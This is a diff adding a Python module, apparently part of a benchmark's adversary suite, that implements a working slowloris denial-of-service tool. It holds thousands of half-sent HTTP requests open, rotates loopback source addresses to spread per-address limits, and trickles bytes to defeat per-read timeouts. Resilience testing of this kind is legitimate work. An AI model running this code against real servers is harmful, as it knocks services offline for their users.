@@ -1,0 +1,250 @@
+"""Holding idle half-sent HTTP connections (slowloris), for the ``idle_connections`` adversary and
+``benchmarks/attacks/idle_conns.py``. Bounded: a fixed number of sockets for a fixed time, then everything is
+closed and counted.
+
+Each connection is opened non-blocking (optionally from one of several local source addresses, e.g.
+127.0.0.2..127.0.x.y on loopback, so that it counts against another address), sends half a request line and
+then waits; a connection the server answers or closes counts as ``closed_by_server``. With ``reconnect_per_s``
+closed ones are replaced (at most that many per second); with ``trickle_s`` every open connection sends one more
+byte of its request line that often (defeating per-read timeouts, not whole-head deadlines).
+"""
+
+from __future__ import annotations
+
+import errno
+import logging
+import resource
+import selectors
+import socket
+import threading
+import time
+from collections.abc import Callable, Sequence
+from dataclasses import asdict, dataclass
+from urllib.parse import urlsplit
+
+__all__ = ["HALF_REQUEST", "HoldReport", "IdleHolder", "hold_idle_connections", "loopback_sources",
+           "raise_own_nofile", "resolve"]
+
+log = logging.getLogger("swarmrl.swarm.slowloris")
+
+HALF_REQUEST = b"GET /v1/ping HTTP/1."  # half a request line: no line end, no headers
+MAX_CONNS = 100_000
+MAX_SECONDS = 3600.0
+IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)  # pick the port at connect (4-tuple)
+
+
+@dataclass
+class HoldReport:
+    attempted: int = 0  # sockets opened (the first n plus replacements)
+    connected: int = 0  # of those, connections the server's kernel accepted
+    connect_failed: int = 0
+    closed_by_server: int = 0  # answered (e.g. 503, 408) or closed by the server while held
+    peak_open: int = 0  # most connections open at once
+    open_at_end: int = 0  # still open when the hold ended
+    seconds: float = 0.0
+
+    def as_dict(self) -> dict[str, float]:
+        return asdict(self)
+
+    def add(self, other: HoldReport) -> None:
+        for k, v in asdict(other).items():
+            if k == "seconds":
+                self.seconds = max(self.seconds, v)
+            else:
+                setattr(self, k, getattr(self, k) + v)
+
+
+def loopback_sources(count: int, first: int = 2) -> list[str]:
+    """``count`` loopback addresses from 127.0.0.<first> on (skipping last octets 0 and 255; never 127.0.0.1
+    when first >= 2)."""
+    out: list[str] = []
+    i = first
+    while len(out) < count:
+        b, c = divmod(i, 256)
+        a, b = divmod(b, 256)
+        if a > 255:
+            raise ValueError("too many loopback sources")
+        if c not in (0, 255):
+            out.append(f"127.{a}.{b}.{c}")
+        i += 1
+    return out
+
+
+def raise_own_nofile(need: int) -> int:
+    """Raise the soft open-files limit toward ``need`` (capped by the hard limit); returns the new soft limit."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    cap = hard if hard != resource.RLIM_INFINITY else max(need, soft)
+    want = min(max(soft, need), cap)
+    if want != soft:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
+    return want
+
+
+def hold_idle_connections(targets: Sequence[tuple[str, int]], n: int, seconds: float, *,
+                          sources: Sequence[str] | None = None, payload: bytes = HALF_REQUEST,
+                          reconnect_per_s: float = 0.0, trickle_s: float = 0.0,
+                          stop: threading.Event | None = None,
+                          on_ready: Callable[[HoldReport], None] | None = None,
+                          ready_timeout_s: float = 15.0) -> HoldReport:
+    """Open ``n`` connections (round-robin over ``targets`` and ``sources``), hold them for ``seconds`` (or until
+    ``stop``), then close them all. ``on_ready`` is called once every first connection has connected or failed
+    (or after ``ready_timeout_s``)."""
+    if not targets or n <= 0:
+        return HoldReport()
+    n = min(n, MAX_CONNS)
+    seconds = min(max(seconds, 0.0), MAX_SECONDS)
+    rep = HoldReport()
+    sel = selectors.DefaultSelector()
+    socks: dict[int, socket.socket] = {}
+    n_open = 0
+    counter = 0
+
+    def open_one() -> None:
+        nonlocal counter
+        host, port = targets[counter % len(targets)]
+        src = sources[counter % len(sources)] if sources else None
+        counter += 1
+        rep.attempted += 1
+        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
+        try:
+            s.setblocking(False)
+            if src is not None:
+                s.setsockopt(socket.SOL_IP, IP_BIND_ADDRESS_NO_PORT, 1)
+                s.bind((src, 0))
+            err = s.connect_ex((host, port))
+        except OSError:
+            err = -1
+        if err not in (0, errno.EINPROGRESS):
+            rep.connect_failed += 1
+            s.close()
+            return
+        socks[s.fileno()] = s
+        sel.register(s, selectors.EVENT_WRITE, "connecting")
+
+    def drop(s: socket.socket) -> None:
+        sel.unregister(s)
+        del socks[s.fileno()]
+        s.close()
+
+    t0 = time.monotonic()
+    end = t0 + seconds
+    for _ in range(n):
+        open_one()
+    ready = False
+    pending = 0  # connections to replace
+    last_tokens = t0
+    tokens = 0.0
+    next_trickle = t0 + trickle_s if trickle_s > 0 else float("inf")
+    try:
+        while True:
+            now = time.monotonic()
+            if now >= end or (stop is not None and stop.is_set()):
+                break
+            for key, mask in sel.select(timeout=0.05):
+                s = key.fileobj
+                assert isinstance(s, socket.socket)
+                if key.data == "connecting":
+                    if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                        rep.connect_failed += 1
+                        drop(s)
+                        pending += 1
+                        continue
+                    rep.connected += 1
+                    try:
+                        s.send(payload)
+                    except OSError:
+                        rep.closed_by_server += 1
+                        drop(s)
+                        pending += 1
+                        continue
+                    sel.modify(s, selectors.EVENT_READ, "open")
+                    n_open += 1
+                    rep.peak_open = max(rep.peak_open, n_open)
+                elif mask & selectors.EVENT_READ:  # the server answered or closed: either way it is gone
+                    try:
+                        s.recv(4096)
+                    except OSError:
+                        pass
+                    rep.closed_by_server += 1
+                    n_open -= 1
+                    drop(s)
+                    pending += 1
+            now = time.monotonic()
+            if not ready and (n_open + rep.connect_failed + rep.closed_by_server >= n
+                              or now - t0 >= ready_timeout_s):
+                ready = True
+                if on_ready is not None:
+                    on_ready(HoldReport(**{**rep.as_dict(), "open_at_end": n_open, "seconds": now - t0}))
+            if reconnect_per_s > 0 and pending:
+                tokens = min(tokens + (now - last_tokens) * reconnect_per_s, max(reconnect_per_s, 1.0))
+                while pending and tokens >= 1.0:
+                    tokens -= 1.0
+                    pending -= 1
+                    open_one()
+            last_tokens = now
+            if now >= next_trickle:
+                next_trickle = now + trickle_s
+                for s in list(socks.values()):
+                    if sel.get_key(s).data == "open":
+                        try:
+                            s.send(b"1")
+                        except OSError:
+                            pass
+    finally:
+        rep.open_at_end = n_open
+        rep.seconds = round(time.monotonic() - t0, 3)
+        for s in list(socks.values()):
+            s.close()
+        sel.close()
+    return rep
+
+
+def resolve(url: str) -> tuple[str, int]:
+    """(address, port) of an http URL's server."""
+    u = urlsplit(url)
+    port = u.port or (443 if u.scheme == "https" else 80)
+    return socket.getaddrinfo(u.hostname or "127.0.0.1", port, type=socket.SOCK_STREAM)[0][4][0], port
+
+
+class IdleHolder:
+    """A background thread holding ``per_target`` idle connections to each URL ``targets()`` returns, in rounds
+    of ``round_s`` (the targets are re-read between rounds), until ``stop()``. ``report`` sums the rounds."""
+
+    def __init__(self, targets: Callable[[], Sequence[str]], per_target: int, round_s: float = 30.0,
+                 reconnect_per_s: float = 20.0, sources: Sequence[str] | None = None,
+                 on_round: Callable[[HoldReport], None] | None = None) -> None:
+        self.targets, self.per_target, self.round_s = targets, per_target, round_s
+        self.on_round = on_round
+        self.reconnect_per_s, self.sources = reconnect_per_s, sources
+        self.report = HoldReport()
+        self.rounds = 0
+        self.first: HoldReport | None = None  # the first round's report
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, name="idle-connections", daemon=True)
+
+    def start(self) -> IdleHolder:
+        self._thread.start()
+        return self
+
+    def stop(self, timeout: float = 10.0) -> HoldReport:
+        self._stop.set()
+        if self._thread.is_alive():
+            self._thread.join(timeout)
+        return self.report
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            try:
+                targets = sorted({resolve(u) for u in self.targets()})
+            except (OSError, ValueError) as e:
+                log.warning("idle connections: cannot resolve targets: %s", e)
+                self._stop.wait(self.round_s)
+                continue
+            rep = hold_idle_connections(targets, self.per_target * len(targets), self.round_s, sources=self.sources,
+                                        reconnect_per_s=self.reconnect_per_s, stop=self._stop)
+            self.report.add(rep)
+            self.first = self.first or rep
+            self.rounds += 1
+            log.info("idle connections to %s: %s", targets, rep.as_dict())
+            if self.on_round is not None:
+                self.on_round(rep)
